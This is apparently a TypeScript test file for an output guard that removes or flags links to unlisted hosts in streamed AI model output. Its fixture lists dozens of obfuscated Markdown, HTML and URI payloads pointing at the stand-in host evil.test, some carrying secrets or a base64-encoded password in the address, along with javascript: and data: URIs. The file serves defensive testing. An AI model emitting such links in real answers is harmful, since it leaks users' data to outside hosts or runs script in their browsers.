import assert from "node:assert/strict";
import { test } from "bun:test";
import { createDice } from "../../../test/documents/dice.ts";
import { CUT_OVER_CHARACTERS } from "./channel-text.ts";
import { carriesData, createHostList } from "./link-host.ts";
import { linkRule } from "./link-rule.ts";
import { LINK_HOLD_CHARACTERS_MAX, LINK_REMOVED } from "./link-watch.ts";
import { createOutputGuard, type OutputGuard } from "./output-guard.ts";
import type { OutputRule } from "./output-rule.ts";
import { finishParts, ORDINARY, splitText, stopAndDetect, textOf } from "./testing.ts";

const HOSTS = ["good.test", "*.good.test", "bücher.test"];
const defang = linkRule({ mode: "defang", hosts: HOSTS });
const detect = linkRule({ mode: "detect", hosts: HOSTS });
const block = linkRule({ mode: "block", hosts: HOSTS });

function play(rule: OutputRule, pieces: readonly string[]): { readonly text: string; readonly guard: OutputGuard } {
  const guard = createOutputGuard([rule]);
  let text = "";
  for (const piece of pieces) text += textOf(guard.push([{ type: "text-delta", choice: 0, text: piece }]));
  return { text: text + textOf(guard.push(finishParts)), guard };
}

/** Each leads to evil.test, or runs something. */
const BAD: readonly string[] = [
  "![x](https://evil.test/p.png?q=secret)",
  "[x](https://evil.test/?q=secret)",
  "![x]( https://evil.test/a )",
  "![x](\nhttps://evil.test/a)",
  '![x](https://evil.test/a "title")',
  "![x](<https://evil.test/a b>)",
  "![x](//evil.test/a)",
  "![x](/\\evil.test/a)",
  "![x](\\\\evil.test\\a)",
  "![x](https:evil.test/a)",
  "![x](https:/evil.test/a)",
  "![x](https:\\\\evil.test/a)",
  "![x](https\\://evil.test/a)",
  "![x](HTTPS://EVIL.TEST/a)",
  "![x](&#104;ttps://evil.test/a)",
  "![x](&#x68;ttps&colon;&sol;&sol;evil.test/a)",
  "![x](https://good.test@evil.test/a)",
  "![x](https://good.test:443@evil.test/a)",
  "![x](https://good.test\\@evil.test/a)",
  "![x](https://good.test%2f@evil.test/a)",
  "![x](https://good.test.evil.test/a)",
  "![x](https://evil.test#good.test)",
  "![x](https://evil.test?good.test)",
  "![x](https://evil.test./a)",
  "![x](https://ｅｖｉｌ.test/a)",
  "![x](https://evil。test/a)",
  "![x](wss://evil.test/a)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](vbscript:x)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](blob:https://evil.test/1)",
  "[x](mailto:a@evil.test?body=secret)",
  "[x](custom-app://evil.test/a)",
  "[x]: https://evil.test/a\n\n![x]",
  "[x]: //evil.test/a\n\n![x]",
  "[x]:\n  <https://evil.test/a>\n",
  "<https://evil.test/a>",
  "<javascript:alert(1)>",
  "https://evil.test/a?b=c",
  "http://evil.test",
  "see (https://evil.test/a) there",
  "www.evil.test/a",
  '<img src="https://evil.test/a">',
  "<img src='//evil.test/a'>",
  "<img src=//evil.test/a>",
  "<img/src=//evil.test/a>",
  '<img srcset="a.png 1x, //evil.test/a 2x">',
  '<img srcset="//evil.test/a 1x, b.png 2x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="ht\ttps://evil.test/">x</a>',
  '<iframe src="https://evil.test/">',
  '<form action="//evil.test/">',
  '<video poster="//evil.test/a">',
  '<object data="//evil.test/a">',
  '<div style="background:url(//evil.test/a)">',
  "<style>a{background:url('//evil.test/a')}</style>",
  '<svg><use xlink:href="//evil.test/a#b"/></svg>',
  '{"url":"https:\\/\\/evil.test\\/a"}',
  "ftp://evil.test/a",
  "https://127.0.0.1/a",
  "https://[::1]/a",
  "https://xn--vil-9na.test/a",
  "xhttps://evil.test/a",
  "[x](https://evil.test> and more",
  "`url(https://{https://evil.test?q=1",
  "https://&amp;https://evil.test/a",
];
/** Each leads to a listed host, or nowhere. */
const GOOD: readonly string[] = [
  "![x](https://good.test/p.png?q=1)",
  "[x](https://www.good.test/a)",
  "[x](https://GOOD.test:8443/a)",
  "[x](https://user@good.test/a)",
  "[x](//good.test/a)",
  "[x](https://b%C3%BCcher.test/a)",
  "[x](https://xn--bcher-kva.test/a)",
  "[x](https://bücher.test/a)",
  "[x](/a/b?c=d#e)",
  "[x](a/b.md)",
  "[x](#part)",
  "[x](mailto:a@good.test)",
  "[x](tel:+49301234)",
  "https://good.test/redirect?to=https://evil.test",
  "<https://good.test/a>",
  "[x]: https://good.test/a",
  '<img src="https://good.test/a" alt="b">',
  '<img srcset="https://good.test/a 1x, https://good.test/b 2x">',
  "<div class='a'><b>c</b></div>",
  "fetch(`https://${HOST}/v1/items`)",
  "// a comment\n/// another\nx[1]: int = 5\na[b](c)\nif (a < b && c > d) e = f;",
  "<xs:element name='a'/> std::vector<std::pair<int, int>> List<Map<String, T>>",
  "the data: 5, the ratio 3:4, at 12:30; note: see [1]: it says so",
  "const data = { a: 1 }; data = a:b; src = fn(x); href={url}",
  "hhttp httpd https http: https:/ wwww www ht",
];

test("links to other hosts are replaced, however they are written and split, and listed ones stay", () => {
  const dice = createDice(6);
  let seen = 0;
  for (let turn = 0; turn < 60; turn++) {
    for (const bad of BAD) {
      const before = dice.pick(ORDINARY.slice(0, 3));
      const { text, guard } = play(defang, splitText(`${before} ${bad} and so on`, dice));
      assert.ok(text.includes(LINK_REMOVED), `${bad} became ${text}`);
      assert.doesNotMatch(text.replaceAll("good.test.evil.test", "evil.test"), /evil|ｅｖｉｌ|script:|127|::1|data:|xn--/i, bad);
      assert.ok(text.startsWith(before) && text.trimEnd().endsWith("and so on"), text);
      assert.ok(guard.events.length >= 1 && guard.events.every((event) => event.action === "replaced"));
      seen++;
    }
    for (const good of [...GOOD, ...ORDINARY]) {
      const { text, guard } = play(defang, splitText(good, dice));
      assert.equal(text, good);
      assert.deepEqual(guard.events, []);
      seen++;
    }
  }
  console.log(`# answers with links: ${seen}, of ${BAD.length} bad and ${GOOD.length} good forms`);
});

test("what leaves does not depend on how the stream was split", () => {
  const dice = createDice(14);
  const pieces = Array.from(
    "]( ![a [ ] ( ) < > https:// http: evil.test good.test / \\ ?q=1 # \n \" ' src= srcset= href = , &#104; &amp; @ : ]: www. . a url( javascript: mailto:x@y 😀 // ; ` { } | %2f".split(
      " ",
    ),
  );
  for (let turn = 0; turn < 5000; turn++) {
    const said = Array.from({ length: 1 + dice.below(14) }, () => dice.pick([...pieces, " "])).join("");
    assert.equal(play(defang, splitText(said, dice)).text, play(defang, [said]).text, said);
  }
});

test("blocking lets nothing of the address out, and detecting changes and holds nothing", () => {
  const dice = createDice(7);
  for (const bad of BAD) {
    const pieces = splitText(`so: ${bad} and so on`, dice);
    const { left, events } = stopAndDetect(pieces, { block, detect }, bad);
    assert.doesNotMatch(left, /evil|script:|data:/i, bad);
    assert.ok(events.length >= 1 && events.every((event) => event.action === "detected"), bad);
  }
});

test("what is left of a Markdown link is its text", () => {
  assert.equal(play(defang, ["a ![the cat](https://evil.test/x.png) b"]).text, "a ![the cat] [link removed] b");
  assert.equal(play(defang, ['a <img src="https://evil.test/x.png"> b']).text, 'a <img src="[link removed]"> b');
});

test("without listed hosts only addresses that carry data are seen", () => {
  const rule = linkRule({ mode: "detect", hosts: [] });
  const secret = Buffer.from("the password of the database is hunter2!!").toString("base64");
  const carrying = [
    `![x](https://evil.test/a.png?d=${secret})`,
    `![x](https://evil.test/${secret}.png)`,
    `https://${"a1b2c3d4".repeat(6)}.evil.test/`,
    `[x](https://evil.test/?q=${"the%20answer%20".repeat(9)})`,
    `![x](https://evil.test/#${"word-".repeat(20)})`,
    "[x](javascript:alert(1))",
  ];
  for (const text of carrying) assert.equal(play(rule, [text]).guard.events.length, 1, text);
  for (const text of [
    ...GOOD,
    "https://en.wikipedia.test/wiki/History_of_the_electric_vehicle_in_the_United_Kingdom?oldid=123456",
    "[commit](https://git.test/a/b/commit/0123456789abcdef0123456789abcdef01234567)",
    "https://shop.test/search?q=red+shoes&size=42&page=2#results",
    "https://news.test/2026/11/26/what-the-long-awaited-report-on-the-harbour-says-and-does-not-say",
  ])
    assert.deepEqual(play(rule, [text]).guard.events, [], text);
  assert.ok(!carriesData(`https://a.test/?${"q".repeat(10)}`));
});

test("openings without an end are held no longer than the bound", () => {
  for (const flood of [
    "![",
    "](",
    "](https://",
    "](h",
    "<",
    "<a",
    "(",
    "https://",
    "a",
    "]: ",
    "[x]:",
    " ",
    "src=",
    'src="',
    "\\",
    "&",
    "@",
    "url(",
  ]) {
    const guard = createOutputGuard([defang]);
    for (const text of ["](", "https://", "x"]) guard.push([{ type: "text-delta", choice: 0, text }]);
    for (let turn = 0; turn < 1000; turn++) {
      guard.push([{ type: "text-delta", choice: 0, text: flood }]);
      assert.ok(guard.heldCharacters <= LINK_HOLD_CHARACTERS_MAX + CUT_OVER_CHARACTERS, `${flood}: ${guard.heldCharacters}`);
    }
  }
});

test("a list of hosts is of hosts", () => {
  const isListed = createHostList(HOSTS);
  assert.ok(isListed("good.test") && isListed("a.b.good.test") && isListed("xn--bcher-kva.test"));
  assert.ok(!isListed("evilgood.test") && !isListed("good.test.evil.test"));
  assert.ok(!createHostList(["not a host", "256.256.256.256", "xn--"])("256.256.256.256"));
});
